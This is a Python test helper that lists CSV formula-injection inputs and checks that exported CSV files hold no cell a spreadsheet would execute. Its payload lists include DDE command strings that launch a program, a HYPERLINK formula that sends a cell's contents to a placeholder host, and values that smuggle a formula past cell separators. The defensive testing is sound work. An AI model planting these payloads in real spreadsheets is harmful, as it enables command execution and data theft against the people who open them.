"""Cells that a spreadsheet would run, and how a table is looked at that must not hold any."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

from wuxing_nlp.documents.tables.formulas import bare

SUM = "1+1"
LIVE = [
    f"={SUM}",
    f"+{SUM}",
    f"-{SUM}",
    "@SUM(1,1)",
    f"\t={SUM}",
    f"\r={SUM}",
    f"\n={SUM}",
    f" ={SUM}",
    f"\u3000={SUM}",
    f"\0={SUM}",
    f"\x1f={SUM}",
    f"\ufeff={SUM}",
    f"\u200b\u202e={SUM}",
    f"＝{SUM}",
    f"＋{SUM}",
    f"－{SUM}",
    "＠SUM(1,1)",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    '=WEBSERVICE("http://example.org/")',
    '=IMPORTXML("http://example.org/","//a")',
    '=DDE("cmd";"/c calc";"x")',
    "-2+3+cmd|'/c calc'!A1",
    '@SUM(1+1)*cmd|"/c calc"!A1',
    f"=-+{SUM}",
]
"""Texts that are formulas for one spreadsheet or another."""

PARTING = [
    f"a;={SUM}",
    f"a\t={SUM}",
    f"a,={SUM}",
    f"a\n={SUM}",
    f"a\r={SUM}",
    f"a\r\n={SUM},x",
    f'a";={SUM};"',
    f'"={SUM}',
    f'",={SUM}',
    f'a"\t={SUM}\t"',
    f"\t;={SUM}",
]
"""Texts whose second half is one, where a spreadsheet parts the cell."""

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
"""Signs that formulas begin with."""

TEXTS = [*LIVE, *PARTING]


def assert_harmless(data: bytes, *texts: str) -> None:
    """Pass a CSV whose cells no spreadsheet runs, also where it parts them at semicolons and tabs, and that
    holds the texts."""
    content = data.decode("utf-8-sig")
    for separators in (",", ",;\t"):
        for cell in parted(content, separators):
            assert not may_run(cell), cell
    found = {bare(cell) for row in csv.reader(io.StringIO(content, newline="")) for cell in row}
    assert set(texts) <= found


def may_run(cell: str) -> bool:
    """Whether some spreadsheet takes a cell for a formula: by its first sign that is seen, or by a break."""
    seen = cell
    while seen and unicodedata.category(seen[0]) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
        seen = seen[1:]
    number = re.fullmatch(r"[+\-＋－]?[0-9][0-9.,]*%?", cell.strip(" "))
    dashes = not cell.strip("-") or not cell.strip("－")
    return cell.startswith(("\t", "\r", "\n")) or (seen.startswith(SIGNS) and not number and not dashes)


def parted(content: str, separators: str) -> list[str]:
    """The cells of a CSV as a spreadsheet reads it that parts at any of several separators: a quotation mark
    counts where a cell begins."""
    cell = re.compile(rf'(?:"((?:[^"]|"")*)"|([^{separators}\r\n]*))(?:[{separators}]|\r\n|\Z)')
    cells, at = [], 0
    while at < len(content):
        found = cell.match(content, at)
        assert found, content[at : at + 80]
        cells.append((found[1] or found[2] or "").replace('""', '"'))
        at = found.end()
    return cells
